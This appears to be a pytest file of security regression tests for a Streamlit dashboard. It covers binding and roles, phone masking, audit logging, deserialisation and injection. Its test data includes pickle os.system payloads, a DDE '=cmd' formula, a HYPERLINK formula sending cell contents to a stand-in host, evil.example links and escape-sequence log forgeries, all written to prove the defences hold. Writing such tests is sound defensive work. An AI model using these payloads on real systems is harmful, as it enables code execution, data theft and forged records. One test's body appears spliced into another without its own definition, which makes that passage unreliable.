"""Issue 19: defects found by trying to break the dashboard (binding, roles, masking, injection,
audit), each reproduced through the real entry point."""

from __future__ import annotations

import pytest
from streamlit import config as st_config

from analytics.core import auth
from tests.signing_in import shows_data, start, t_


@pytest.fixture
def roles_like_env(demo_db, demo_model_dir, tmp_path, monkeypatch):
    """A private copy of the demo (sign-ins write to its audit log) with the session's models."""
    import shutil

    path = tmp_path / "roles.duckdb"
    shutil.copy(demo_db, path)
    monkeypatch.setenv("ANALYTICS_DB", str(path))
    monkeypatch.setenv("ANALYTICS_MODEL_DIR", str(demo_model_dir))
    return path


@pytest.fixture
def bound_to(monkeypatch):
    """Set Streamlit's server.address for one test, as `streamlit run --server.address` would."""
    before = st_config.get_option("server.address")

    def bind(address: str | None) -> None:
        st_config.set_option("server.address", address)

    yield bind
    st_config.set_option("server.address", before)


@pytest.mark.parametrize("address", ["0.0.0.0", "192.168.1.20", None])
def test_local_mode_refuses_to_serve_the_network_without_accounts(demo_env, bound_to, address):
    bound_to(address)
    at = start()
    assert [e.value for e in at.error] == [t_("auth.network_without_accounts", address=address or "0.0.0.0")]
    assert not shows_data(at) and at.session_state["_user"].role == "viewer"


def test_local_mode_serves_the_network_without_accounts_only_when_the_setting_says_so(
    demo_env, bound_to, monkeypatch
):
    from analytics.core.config import settings

    bound_to("0.0.0.0")
    monkeypatch.setattr(settings().auth, "serve_network_without_accounts", True)
    at = start()
    assert not at.error and len(at.metric) == 12


def test_with_accounts_the_network_is_served_behind_the_sign_in_form(demo_env, with_accounts, bound_to):
    bound_to("0.0.0.0")
    at = start()
    assert not at.error and at.title[0].value == t_("auth.title")


@pytest.mark.parametrize(
    ("address", "allowed"),
    [
        ("localhost", True),
        ("127.0.0.1", True),
        ("::1", True),
        ("LOCALHOST ", True),
        ("0.0.0.0", False),
        ("", False),
    ],
)
def test_which_addresses_local_mode_may_serve(address, allowed):
    assert auth.local_mode_allowed(address, False) is allowed
    assert auth.local_mode_allowed(address, True) is True


@pytest.mark.parametrize(
    ("client", "allowed"),
    [
        ("local", True),  # this machine, no proxy in front
        ("unknown", True),  # no request (a test harness)
        ("127.0.0.1", True),
        ("::1", True),
        ("203.0.113.7", False),  # another computer, brought by a reverse proxy on this machine
        ("192.168.1.20", False),
    ],
)
def test_local_mode_bound_to_this_machine_refuses_a_browser_a_proxy_brings(client, allowed):
    assert auth.local_mode_allowed("localhost", False, client) is allowed
    assert auth.local_mode_allowed("localhost", True, client) is True
    assert auth.local_mode_allowed("0.0.0.0", False, client) is False


def test_a_reverse_proxy_on_this_machine_does_not_give_the_network_full_rights_without_accounts(
    demo_env, bound_to, monkeypatch
):
    """Without accounts the dashboard refused to listen beyond this machine, but nginx on the same
    machine forwarding the network to localhost:8501 gave every visitor the CS lead's rights:
    the check read the address the server listens on, not where the browser was."""
    import ui.auth

    bound_to("localhost")
    # What client_address gives for nginx's X-Forwarded-For naming another computer.
    monkeypatch.setattr(
        ui.auth, "_client", lambda *_: auth.client_address(None, "203.0.113.7", ["127.0.0.1", "::1"])
    )
    at = start()
    assert [e.value for e in at.error] == [t_("auth.proxied_without_accounts", client="203.0.113.7")]
    assert not shows_data(at) and at.session_state["_user"].role == "viewer"
    # This machine's own browser through the same proxy keeps local mode.
    monkeypatch.setattr(
        ui.auth, "_client", lambda *_: auth.client_address(None, "127.0.0.1", ["127.0.0.1", "::1"])
    )
    at = start()
    assert not at.error and len(at.metric) == 12


def test_a_payload_file_put_into_the_marts_folder_is_never_unpickled(demo_db, tmp_path):
    """A file written into <db>.marts/ ran a command when `report` read it."""
    import os
    import pickle
    import shutil
    import stat

    from analytics.domain import facts, overview
    from analytics.services import marts
    from analytics.store import db

    path = tmp_path / "m.duckdb"
    shutil.copy(demo_db, path)
    con = db.connect(path)
    call = marts.call_of(overview.overview, facts.available_months(con)[1], None)
    marts.cached(con, call, keep=True)
    version = db.data_version(con)
    name = con.execute(
        "SELECT file FROM marts WHERE name = $n AND args = $a", {"n": call.fn, "a": call.key}
    ).fetchone()[0]
    folder = marts.folder(con)
    assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(folder / name).st_mode) == 0o600
    assert not list(folder.glob("*.tmp"))

    witness = tmp_path / "ran"

    class Exploit:
        def __reduce__(self):
            return (os.system, (f"touch {witness}",))

    (folder / name).write_bytes(pickle.dumps(Exploit()))
    assert marts.fetch(con, call, version) == (False, None)
    assert not witness.exists()
    # The page computes the result afresh instead.
    assert marts.cached(con, call).kpis and not witness.exists()
    con.close()


def test_a_model_file_replaced_on_disk_is_never_unpickled(tmp_path, monkeypatch):
    # Models are kept in the safe format: a pickle put in a model file's place is never unpickled,
    # even with its checksum recorded (a doctored database as well as a doctored folder).
    import datetime as dt
    import hashlib
    import os
    import pickle

    from analytics.domain import maintenance
    from analytics.domain.maintenance import persistence
    from analytics.store import db

    monkeypatch.setenv("ANALYTICS_MODEL_DIR", str(tmp_path / "models"))
    con = db.connect(tmp_path / "x.duckdb")
    path = tmp_path / "models" / f"maintenance-test{persistence.MODEL_SUFFIX}"
    monkeypatch.setattr(persistence, "model_path", lambda con, as_of: path)
    monkeypatch.setattr(persistence, "_resolve_as_of", lambda con, as_of: as_of)
    witness = tmp_path / "ran"

    class Exploit:
        def __reduce__(self):
            return (os.system, (f"touch {witness}",))

    path.parent.mkdir(mode=0o700)
    data = pickle.dumps(Exploit())
    path.write_bytes(data)
    con.execute(
        "INSERT OR REPLACE INTO meta VALUES ($k, $v)",
        {"k": f"model_sha256:{path.name}", "v": hashlib.sha256(data).hexdigest()},
    )
    assert maintenance.load_model(con, as_of=dt.date(2026, 1, 1)) is None
    assert not witness.exists()
    con.close()


@pytest.mark.parametrize(
    ("username", "offered"), [("liuyang", False), ("wangqiang", False), ("zhangli", True)]
)
def test_retraining_the_model_is_offered_only_to_roles_that_may_change_data(
    roles_like_env, with_accounts, username, offered
):
    from tests.signing_in import sign_in

    at = sign_in(username, page="pages/maintenance.py")
    if len(at.tabs) > 1:  # the button sits on the model card, drawn when its tab is opened
        at.session_state["maint_tab"] = at.tabs[1].label
        at.run()
    assert bool([b for b in at.button if b.key == "maint_retrain"]) == offered


def test_a_write_is_refused_on_the_server_for_a_role_that_may_not_and_audited(writable_demo):
    from streamlit.testing.v1 import AppTest

    def script():
        import streamlit as st

        from ui import auth as ui_auth

        st.session_state["_user"] = ui_auth.User("liuyang", "刘洋", "viewer")
        st.session_state["results"] = [
            ui_auth.authorize(a) for a in ("import", "demo", "rollback", "retrain")
        ]
        st.session_state["_user"] = ui_auth.User("zhangli", "张丽", "cs_lead")
        st.session_state["results"].append(ui_auth.authorize("retrain"))

    at = AppTest.from_function(script, default_timeout=60)
    at.session_state["lang"] = "en"
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    assert at.session_state["results"] == [False, False, False, False, True]
    assert [e.value for e in at.error] == [t_("auth.refused", role=t_("auth.role.viewer"))] * 4
    from tests.signing_in import audit_rows

    assert audit_rows()[-4:] == [
        ("liuyang", "viewer", "refused", {"action": a}) for a in ("import", "demo", "rollback", "retrain")
    ]


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("联系我１３９１２３４５６７８", "联系我139****5678"),
        ("微信wx13700000001", "微信wx137****0001"),
        ("张先生13700000009", "张先生137****0009"),
        ("电话：+86 138-1234-5678，谢谢", "电话：138****5678，谢谢"),
        ("ＷＸ：１３８　１２３４　５６７８", "ＷＸ：138****5678"),
        ("回电 138.1234.5678 找王工", "回电 138****5678 找王工"),  # dots between the groups
        ("手机 138 - 1234 - 5678", "手机 138****5678"),  # a hyphen with spaces around it
        ("电话138·1234·5678。", "电话138****5678。"),
        ("日期 2026.10.13 13:30，里程 12345 km", "日期 2026.10.13 13:30，里程 12345 km"),
        ("工单2013812345678号", "工单2013812345678号"),  # thirteen digits: not a mobile
        ("保养很好，１０分", "保养很好，１０分"),  # full-width text without a number stays as it was
    ],
)
def test_mobile_numbers_inside_text_are_masked_after_full_width_digits_are_read_as_digits(text, masked):
    assert auth.mask_text(text) == masked


def test_a_phone_typed_into_the_name_field_is_masked_but_codes_are_not():
    import pandas as pd

    frame = pd.DataFrame(
        {
            "customer_name": ["张先生13700000009", "李女士"],
            "vin": ["LSV13700000009123", "LFV2A21K3N4131234"],
            "phone": ["13812341234", None],
            "comment": ["加我微信wx13700000001", None],
            "visits": [3, 1],
        }
    )
    out = auth.mask_frame(frame).astype(object).fillna("—")
    assert out.to_dict("list") == {
        "customer_name": ["张先生137****0009", "李女士"],
        "vin": ["LSV13700000009123", "LFV2A21K3N4131234"],
        "phone": ["138****1234", "—"],
        "comment": ["加我微信wx137****0001", "—"],
        "visits": [3, 1],
    }


def _deck_with(table_rows, categories, series_name="=cmd|' /C calc'!A0"):
    from analytics.reports import deck

    slide = deck.Slide(
        "changes",
        "标题",
        "联系我１３９１２３４５６７８",
        table=[["customer", "comment"], *table_rows],
        marks=[None] * (1 + len(table_rows)),
        widths=[1.0, 3.0],
    )
    chart = deck.Slide(
        "praise",
        "车型",
        "",
        charts=[
            deck.Chart(
                "c", "column", "by model", categories, [deck.Series(series_name, [1.0] * len(categories))]
            )
        ],
    )
    return deck.render([slide, chart], "footer")


def test_the_deck_masks_phones_in_every_text_it_shows():
    import io

    from pptx import Presentation

    blob = _deck_with([["张先生13700000009", "微信wx13700000001"]], ["A"])
    texts = []
    for slide in Presentation(io.BytesIO(blob)).slides:
        for shape in slide.shapes:
            if shape.has_text_frame:
                texts.append(shape.text_frame.text)
            if shape.has_table:
                texts += [c.text for row in shape.table.rows for c in row.cells]
    joined = "\n".join(texts)
    assert "张先生137****0009" in joined and "微信wx137****0001" in joined and "139****5678" in joined
    assert "13700000009" not in joined and "5678" in joined


def test_a_long_comment_cut_for_the_decks_red_flag_table_shows_no_digit_the_mask_hides():
    """The comment was cut to 40 characters before masking: a mobile across the cut kept 8 digits
    (139 1234 5), too few for the mask to find, so the deck showed the 4 that pages hide."""
    from datetime import date
    from types import SimpleNamespace

    import pandas as pd

    from analytics.reports.deck.slides import _changes_slide

    comment = "保养后方向盘还是有异响，客服一直没回电话，请尽快处理，联系" + "13912345678" + "，谢谢"
    rows = pd.DataFrame(
        [
            {
                "flag": "no_followup",
                "callback_date": pd.Timestamp("2026-09-03 10:00"),
                "customer_name": "张先生",
                "advisor": "王强",
                "service_type": "repair",
                "overall_score": 4.0,
                "comment": comment,
            }
        ]
    )
    # A month with callbacks (a complaint count): the slide reads the KPIs since session 42.
    complaints = SimpleNamespace(value=1.0, status="ok", reason=None, prev_month=2.0)
    d = SimpleNamespace(
        changes=[],
        red_flags={"no_followup": 1, "complaint_overdue": 0},
        red_flag_rows=rows,
        month="2026-09",
        as_of=date(2026, 9, 30),
        kpis={"complaints": complaints},
    )
    shown = _changes_slide(d, "zh").table[1][-1]
    assert len(shown) == 40 and shown.endswith("…")
    assert "1234" not in shown and "139****" in shown
    """A car model `=HYPERLINK("http://…"&A1,"点我")` became a <f> formula in the embedded workbook."""
    import io
    import zipfile

    import openpyxl
    from pptx import Presentation

    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
    blob = _deck_with([["a", "b"]], [hostile, "+SUM(1,2)", "途观L"])
    chart = next(
        s.chart for slide in Presentation(io.BytesIO(blob)).slides for s in slide.shapes if s.has_chart
    )
    workbook_blob = chart.part.chart_workbook.xlsx_part.blob
    with zipfile.ZipFile(io.BytesIO(workbook_blob)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = [
        c.value for row in openpyxl.load_workbook(io.BytesIO(workbook_blob)).active.iter_rows() for c in row
    ]
    assert "'" + hostile in cells and "'+SUM(1,2)" in cells and "途观L" in cells
    assert "'=cmd|' /C calc'!A0" in cells


def test_list_exports_neutralise_formula_column_names_too():
    import io

    import openpyxl
    import pandas as pd

    from analytics.reports import export

    frame = pd.DataFrame({'=HYPERLINK("x")': ["=1+1"], "model": pd.Series(["@SUM(A1)"], dtype="category")})
    book = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(frame)))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert values == ['\'=HYPERLINK("x")', "model", "'=1+1", "'@SUM(A1)"]
    assert export.csv_bytes(frame).decode("utf-8-sig").splitlines()[0].startswith("\"'=HYPERLINK")


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        ("[点我领取保养券](https://evil.example/x)", "\\[点我领取保养券\\](https\\://evil.example/x)"),
        ('<a href="https://evil.example">陈静</a>', '\\<a href="https\\://evil.example"\\>陈静\\</a\\>'),
        ("很好\n# 标题", "很好 # 标题"),
        ("# 标题", "\\# 标题"),
        ("1. 第一", "1\\. 第一"),
        (
            "加微信 www.evil.example 或 a@b.cn，$x$ **粗**",
            "加微信 www\\.evil.example 或 a\\@b.cn，\\$x\\$ \\*\\*粗\\*\\*",
        ),
        ("photo.csv: not a table (PNG)", "photo.csv: not a table (PNG)"),
        ("服务态度好", "服务态度好"),
    ],
)
def test_data_in_markdown_is_escaped_so_it_shows_as_text(data, shown):
    from ui.formatting import plain

    assert plain(data) == shown


def test_advisor_names_on_chart_axes_are_html_escaped_so_plotly_draws_no_link():
    import numpy as np
    import plotly.graph_objects as go

    from analytics.reports.chart_export import escape_data

    hostile = '<a href="https://evil.example">陈静</a>'
    fig = go.Figure(
        go.Bar(y=np.array([hostile, "王强"], dtype=object), x=[3, 4], name="<b>门店</b>", orientation="h")
    )
    fig.update_yaxes(categoryarray=["王强", hostile])
    escape_data(fig)
    assert list(fig.data[0].y) == ['&lt;a href="https://evil.example"&gt;陈静&lt;/a&gt;', "王强"]
    assert fig.data[0].name == "&lt;b&gt;门店&lt;/b&gt;"
    assert list(fig.layout.yaxis.categoryarray) == [
        "王强",
        '&lt;a href="https://evil.example"&gt;陈静&lt;/a&gt;',
    ]
    assert list(fig.data[0].x) == [3, 4]
    assert "<a " not in fig.to_json()


def test_ctrl_c_during_the_results_rebuild_stops_within_a_second(tmp_path):
    """`marts.rebuild` caught Exception, which swallowed DuckDB's interrupt: 85 s to stop."""
    import os
    import signal
    import subprocess
    import sys
    import time
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    proc = subprocess.Popen(
        [sys.executable, "-m", "tests.rebuild_driver", str(tmp_path / "r.duckdb")],
        cwd=root,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
        # As a terminal delivers it: a harness may start us with SIGINT ignored, which children inherit.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    try:
        assert proc.stdout is not None
        while "slow" not in proc.stdout.readline():
            assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
        time.sleep(0.5)  # inside the query
        sent = time.monotonic()
        proc.send_signal(signal.SIGINT)
        assert proc.stderr is not None
        first = proc.stderr.readline()  # printed the moment the command stops
        stopped = time.monotonic() - sent
        out, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    err = first + err
    assert "second" not in out
    assert proc.returncode == 130, err
    from analytics.cli import INTERRUPTED

    assert err.strip() == INTERRUPTED
    assert stopped < 1.0, stopped


def _damaged_copy(demo_db, tmp_path):
    """A copy of the demo whose data blocks are overwritten: DuckDB reports a checksum mismatch."""
    import shutil

    path = tmp_path / "damaged.duckdb"
    shutil.copy(demo_db, path)
    size = path.stat().st_size
    # Everything after the first eighth: which blocks a command reads depends on the file's layout
    # (it changes with the demo), so damaging only a middle stretch may miss all of them.
    with path.open("r+b") as handle:
        handle.seek(size // 8)
        handle.write(b"\0" * (size - size // 8))
    return path


def _cli(*args, models=None):
    import os
    import subprocess
    import sys
    import tempfile
    from pathlib import Path

    env = {**os.environ, "ANALYTICS_MODEL_DIR": str(models or Path(tempfile.mkdtemp()) / "models")}
    return subprocess.run(
        [sys.executable, "-m", "analytics", *args],
        cwd=Path(__file__).resolve().parents[1],
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
    )


def test_a_damaged_database_gives_one_sentence_exit_2_and_points_to_the_latest_backup(demo_db, tmp_path):
    from analytics.store import db

    path = _damaged_copy(demo_db, tmp_path)
    done = _cli("report", "--month", "2026-09", "--db", str(path))
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.startswith(f"error: The database {path} is damaged and cannot be read (")
    assert done.stderr.count("\n") == 1 and "there is no backup of it" in done.stderr
    # With a backup, the sentence names the command that restores it.
    folder = db.backup_dir(path)
    folder.mkdir()
    (folder / "damaged-20261201-000000-000000.duckdb").write_bytes(b"")
    # The same command as above: it reads the damaged blocks (which blocks a command reads depends
    # on the file's layout, so another command may never touch them).
    done = _cli("report", "--month", "2026-09", "--db", str(path))
    assert done.returncode == 2
    assert (
        f"restore the latest backup with `python -m analytics restore "
        f"{folder / 'damaged-20261201-000000-000000.duckdb'} --db {path}`."
    ) in done.stderr


def test_a_stale_write_ahead_log_gets_a_sentence_saying_what_to_do(tmp_path):
    import duckdb

    other = tmp_path / "other.duckdb"
    con = duckdb.connect(str(other))
    con.execute("PRAGMA disable_checkpoint_on_shutdown")
    con.execute("CREATE TABLE t AS SELECT range AS i FROM range(10)")
    con.execute("INSERT INTO t SELECT range FROM range(1000)")
    con.close()
    path = tmp_path / "main.duckdb"
    duckdb.connect(str(path)).close()
    (tmp_path / "other.duckdb.wal").rename(tmp_path / "main.duckdb.wal")
    done = _cli("audit", "--db", str(path))
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.startswith(
        f"error: The database {path} cannot be opened: its write-ahead log {path}.wal does not belong to it"
    )
    assert "Move main.duckdb.wal out of the folder and open the database again" in done.stderr


def test_backup_while_open_and_restore_bring_back_the_data_and_audit_both(demo_db, tmp_path):
    import os
    import shutil
    import stat

    from analytics.store import backup, db

    path = tmp_path / "live.duckdb"
    shutil.copy(demo_db, path)
    con = db.connect(path)
    orders = con.execute("SELECT count(*) FROM service_orders").fetchone()[0]
    kept = backup.backup(con)  # while this connection holds the file, as the dashboard does
    assert kept.parent == db.backup_dir(path) and stat.S_IMODE(os.stat(kept).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(kept.parent).st_mode) == 0o700
    assert not list(kept.parent.glob("*.partial*"))
    con.execute("DELETE FROM service_orders")
    con.close()
    done = _cli("restore", str(kept), "--db", str(path))
    assert done.returncode == 0, done.stderr
    con = db.connect(path)
    assert con.execute("SELECT count(*) FROM service_orders").fetchone()[0] == orders
    assert (
        con.execute("SELECT action FROM audit_log ORDER BY audit_id DESC LIMIT 1").fetchone()[0] == "restore"
    )
    con.close()
    assert list(tmp_path.glob("live.duckdb.replaced-*"))
    done = _cli("backup", "--db", str(path))
    assert done.returncode == 0 and done.stdout.startswith("backup written to ")


def test_browsers_get_no_tracebacks_and_a_damaged_database_gets_a_sentence(demo_db, tmp_path, monkeypatch):
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["showErrorDetails"] == "none"
    path = _damaged_copy(demo_db, tmp_path)
    monkeypatch.setenv("ANALYTICS_DB", str(path))
    at = start()
    assert not at.exception
    assert [e.value for e in at.error][0].startswith(f"The database {path} is damaged and cannot be read (")


def test_command_line_list_exports_and_the_demo_are_audited(demo_db, tmp_path):
    """`churn --out` wrote 7,901 phones and `audit` said "empty"; the demo import was not recorded."""
    import json
    import shutil

    path = tmp_path / "cli.duckdb"
    shutil.copy(demo_db, path)
    out = tmp_path / "calls.csv"
    done = _cli("churn", "--as-of", "2026-09-30", "--out", str(out), "--db", str(path))
    assert done.returncode == 0, done.stderr
    rows = len(out.read_text(encoding="utf-8-sig").splitlines()) - 1
    done = _cli("audit", "--json", "--db", str(path))
    events = json.loads(done.stdout)
    assert [(e["role"], e["action"]) for e in events[:1]] == [("cli", "export")]
    assert events[0]["detail"] == {
        "what": "churn_list",
        "file": str(out),
        "file_format": "csv",
        "rows": rows,
        "has_phone": True,
    }
    demo_path = tmp_path / "demo.duckdb"
    done = _cli("demo", "--scale", "0.02", "--stores", "1", "--no-marts", "--db", str(demo_path))
    assert done.returncode == 0, done.stderr
    events = json.loads(_cli("audit", "--json", "--action", "import", "--db", str(demo_path)).stdout)
    assert [(e["role"], e["detail"]["file"], e["detail"]["kind"]) for e in events] == [
        ("cli", "demo", "demo")
    ]


def test_audit_lines_escape_control_characters_so_a_user_name_cannot_forge_a_line(tmp_path):
    from analytics.store import audit, db

    path = tmp_path / "a.duckdb"
    con = db.connect(path)
    forged = "mallory\x1b[2K\r2026-12-01 09:00:00  zhangli (cs_lead)  sign_in\u202e"
    audit.record(con, forged, "none", "sign_in_failed", {"reason": "wrong\nline"})
    con.close()
    done = _cli("audit", "--db", str(path))
    assert done.returncode == 0
    line = done.stdout.rstrip("\n")
    assert "\x1b" not in line and "\r" not in line and "\u202e" not in line and "\n" not in line
    assert line.endswith(
        "  mallory\\x1b[2K\\r2026-12-01 09:00:00  zhangli (cs_lead)  sign_in\\u202e (none)  sign_in_failed  "
        "reason=wrong\\nline"
    )


@pytest.mark.parametrize(
    ("username", "shown"), [("zhangli", True), ("wangqiang", True), ("chenjing", False), ("liuyang", False)]
)
def test_the_audit_log_is_shown_on_the_data_page_to_the_cs_lead_and_the_manager(
    roles_like_env, with_accounts, username, shown
):
    from tests.signing_in import sign_in

    at = sign_in(username, page="pages/data.py")
    assert (t_("data.tab_audit") in [tab.label for tab in at.tabs]) is shown
    # The log is shown in the interface language: its columns and its actions in words.
    action, who = t_("field.action"), t_("field.who")
    logs = [d for d in at.dataframe if action in d.value.columns and who in d.value.columns]
    if shown:
        assert logs
        assert logs[0].value[action].iloc[0] == t_("audit_action.sign_in")
        assert logs[0].value[who].iloc[0] == username
    else:
        assert not logs


def _enospc(*args, **kwargs):
    import errno

    raise OSError(errno.ENOSPC, "No space left on device")


def test_a_full_disk_while_writing_a_kept_result_leaves_no_temporary_file(tmp_path, monkeypatch):
    from analytics.core import private_files

    target = tmp_path / "kept" / "x.pickle"
    real = private_files.os.fdopen

    def full_fdopen(fd, mode):
        handle = real(fd, mode)
        handle.write = _enospc
        return handle

    monkeypatch.setattr(private_files.os, "fdopen", full_fdopen)
    with pytest.raises(OSError, match="No space left"):
        private_files.write_private(target, b"x" * 1000)
    assert list(target.parent.iterdir()) == []


def test_a_full_disk_stops_the_results_rebuild_with_a_sentence_instead_of_success(
    demo_db, tmp_path, monkeypatch
):
    import shutil

    from analytics.core import private_files
    from analytics.core.errors import DiskFull
    from analytics.domain import facts, overview
    from analytics.services import marts
    from analytics.store import db

    path = tmp_path / "full.duckdb"
    shutil.copy(demo_db, path)
    con = db.connect(path)
    monkeypatch.setattr(private_files, "write_private", _enospc)
    call = marts.call_of(overview.overview, facts.available_months(con)[1], None)
    # A page still gets its result (it is not kept) ...
    assert marts.cached(con, call, keep=True).kpis
    # ... but the rebuild, whose job is keeping them, stops and says why and how much to free.
    with pytest.raises(DiskFull) as caught:
        marts.rebuild(con, [call])
    assert str(caught.value).startswith(f"The disk holding {path.parent}.marts is full (") or str(
        caught.value
    ).startswith(f"The disk holding {tmp_path} is full (")
    assert "free at least" in str(caught.value) and "MB there, then run it again." in str(caught.value)
    con.close()


def test_a_full_disk_in_a_write_transaction_is_a_sentence_even_when_duckdb_ended_the_transaction(tmp_path):
    import duckdb

    from analytics.core.errors import DiskFull
    from analytics.store import db

    con = db.connect(tmp_path / "w.duckdb")
    with pytest.raises(DiskFull, match=r"^The disk holding .* is full \("):
        with db.write_transaction(con) as cur:
            cur.execute("CREATE TABLE t (i INTEGER)")
            cur.execute("ROLLBACK")  # as DuckDB does to a transaction it cannot write
            raise duckdb.IOException('IO Error: Could not write file "w.duckdb.wal": No space left on device')
    con.close()


def test_on_a_really_full_disk_the_marts_command_says_so_and_cleans_up(demo_db, tmp_path):
    import shutil
    import subprocess

    mount = tmp_path / "small"
    mount.mkdir()
    size = demo_db.stat().st_size + 600_000
    if subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(mount)], capture_output=True
    ).returncode:
        pytest.skip("cannot mount a small tmpfs here (not root)")
    try:
        path = mount / "d.duckdb"
        shutil.copy(demo_db, path)
        done = _cli("marts", "--db", str(path))
        assert done.returncode == 2, (done.stdout, done.stderr)
        assert "page results computed" not in done.stdout
        assert done.stderr.startswith("error: The disk holding ") and " is full (" in done.stderr
        assert "Traceback" not in done.stderr
        assert not [p for p in mount.rglob("*") if p.name.endswith((".tmp", ".partial"))]
    finally:
        subprocess.run(["umount", str(mount)], check=False)


def test_kept_page_results_are_stored_in_a_format_that_cannot_run_code(demo_db, tmp_path):
    import shutil

    from analytics.core import safe_payload
    from analytics.domain import facts, overview
    from analytics.services import marts
    from analytics.store import db

    path = tmp_path / "s.duckdb"
    shutil.copy(demo_db, path)
    con = db.connect(path)
    call = marts.call_of(overview.overview, facts.available_months(con)[1], None)
    first = marts.cached(con, call, keep=True)
    name = con.execute(
        "SELECT file FROM marts WHERE name = $n AND args = $a", {"n": call.fn, "a": call.key}
    ).fetchone()[0]
    data = (marts.folder(con) / name).read_bytes()
    assert safe_payload.is_safe(data) and b"\x80\x04" not in data[:2]  # not a pickle
    again = marts.fetch(con, call, db.data_version(con))[1]
    assert safe_payload.same(again, first)
    con.close()


def test_the_safe_format_reads_back_frames_and_values_exactly_and_rebuilds_no_foreign_class():
    import datetime as dt
    import re

    import numpy as np
    import pandas as pd

    from analytics.core import safe_payload

    frame = pd.DataFrame(
        {
            "n": [1, 2],
            "x": [0.5, float("nan")],
            "s": pd.Series(["a", None], dtype="str"),
            "i": pd.array([1, None], dtype="Int64"),
            "d": pd.to_datetime(["2026-01-01", "2026-02-01"]),
            "o": [dt.date(2026, 1, 1), ("a", 1)],
        }
    )
    value = {"frame": frame, ("k", 1): [np.float64(1.5), np.arange(3), dt.date(2026, 3, 1), None, {1, 2}]}
    assert safe_payload.same(safe_payload.decode(safe_payload.encode(value)), value)
    pattern = safe_payload.decode(safe_payload.encode(re.compile("保养|机油", re.IGNORECASE)))
    assert pattern.pattern == "保养|机油" and pattern.flags == re.compile("保养|机油", re.IGNORECASE).flags

    class Foreign:
        pass

    with pytest.raises(safe_payload.Unsupported, match="Foreign"):
        safe_payload.encode({"x": [Foreign()]})
    forged = safe_payload.MAGIC + b""
    header = b'{"root": {"$": "dc", "m": "os", "q": "system", "f": {}}, "blobs": []}'
    import struct

    forged += struct.pack("<Q", len(header)) + header
    with pytest.raises(ValueError, match="refusing to rebuild a class from os"):
        safe_payload.decode(forged)


def test_the_safe_format_refuses_a_result_holding_a_model_before_encoding_its_frames(monkeypatch):
    # A themes window (a hundred thousand comments and the fitted model) spent seconds encoding
    # its frame before the model refused; the refusal now comes first, and no frame is encoded.
    import threading

    import pandas as pd

    from analytics.core import safe_payload
    from analytics.domain.themes.discovery import _Detail

    def no_frames(*args, **kwargs):
        raise AssertionError("a frame was encoded")

    monkeypatch.setattr(safe_payload, "_column", no_frames)
    held = _Detail(themes=["a"], lexicon=[pd.DataFrame({"x": [1]})], discovered=[], vectors=threading.Lock())
    with pytest.raises(safe_payload.Unsupported, match="lock"):
        safe_payload.encode({"window": [held]})
    monkeypatch.undo()
    plain = {
        "window": [_Detail(themes=["a"], lexicon=[pd.DataFrame({"x": [1]})], discovered=[], vectors=None)]
    }
    assert safe_payload.same(safe_payload.decode(safe_payload.encode(plain)), plain)


@pytest.mark.parametrize("page", ["pages/satisfaction.py", "pages/themes.py"])
def test_advisor_names_in_a_pages_sentences_show_as_text_never_as_links(writable_demo, page):
    """The breakdown's best and worst advisor and the praise board's top advisor went into a
    caption as they were: an advisor `[王强](https://evil.example)` became a link."""
    from pathlib import Path

    from streamlit.testing.v1 import AppTest

    from analytics.store import db

    con = db.connect(writable_demo)
    con.execute("UPDATE service_orders SET advisor = '[' || advisor || '](https://evil.example)'")
    db.bump_data_version(con)
    con.close()
    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "app.py"), default_timeout=180)
    at.session_state["lang"] = "zh"
    at.run()
    at.switch_page(page)
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    sentences = [e.value for kind in (at.caption, at.markdown, at.info, at.warning) for e in kind]
    assert [s for s in sentences if "evil" in s]  # the names are in the sentences ...
    assert [s for s in sentences if "](https://evil" in s] == []  # ... as text


def test_tables_on_pages_offer_no_download_of_their_own_that_would_skip_role_audit_and_formulas():
    """Every st.dataframe had Streamlit's own "Download as CSV" (and copy): a manager took the churn
    list with names that way, unaudited, with `=HYPERLINK(...)` comments as they were. Lists leave
    only through the audited, formula-safe buttons offered to the roles that may export them."""
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml").read_text())
    st_config.get_config_options()
    assert "client.disableDataExport" in st_config._config_options  # an option this Streamlit knows
    assert config["client"]["disableDataExport"] is True


def test_a_vehicles_work_orders_on_the_churn_page_mask_mobiles_in_their_text_for_the_manager(
    roles_like_env, with_accounts
):
    """The vehicle history under the churn list drew its work orders as they were: an advisor
    field holding a mobile (`王工 13812345678`, as some DMS exports write it) reached the manager."""
    from analytics.core.i18n import text
    from analytics.store import db
    from tests.signing_in import sign_in

    con = db.connect(roles_like_env)
    con.execute("UPDATE service_orders SET advisor = advisor || ' 13812345678'")
    con.close()
    at = sign_in("wangqiang", page="pages/churn.py")
    at.session_state["churn_list"] = {"selection": {"rows": [0], "columns": []}}
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    visits = at.dataframe[1].value
    # The history names its columns for people ("服务顾问" / "Service advisor").
    advisor = [c for c in visits.columns if c in {text("field.advisor", lang) for lang in ("zh", "en")}]
    assert len(visits) and advisor
